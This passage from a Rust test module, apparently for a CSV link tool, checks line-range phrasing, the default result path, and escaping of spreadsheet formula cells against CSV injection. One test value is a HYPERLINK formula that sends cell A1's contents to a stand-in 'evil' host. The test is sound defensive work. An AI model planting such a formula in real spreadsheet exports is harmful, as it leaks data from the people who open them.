        assert_eq!(Lines::of([7]).phrase(), "line 7");
        assert_eq!(Lines::of([7, 8]).phrase(), "lines 7-8");
        assert_eq!(Lines::of([7, 9]).phrase(), "lines 7, 9");
    }

    #[test]
    fn result_path_sits_beside_the_input() {
        assert_eq!(
            default_result_path(Path::new("/tmp/links.csv")),
            Path::new("/tmp/links.result.csv")
        );
    }

    #[test]
    fn formula_cells_are_quoted_and_read_back() {
        for value in [
            "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
            "+1",
            "-2",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'=already quoted",
            "'",
        ] {
            let cell = escape_cell(value);
            assert!(cell.starts_with('\''), "{value:?}");
            assert_eq!(unescape_cell(&cell), value);
        }
        for value in ["plain", "https://qr-lb.co/a", "", "a=b"] {
            assert_eq!(escape_cell(value), value);
            assert_eq!(unescape_cell(value), value);
        }
    }
}
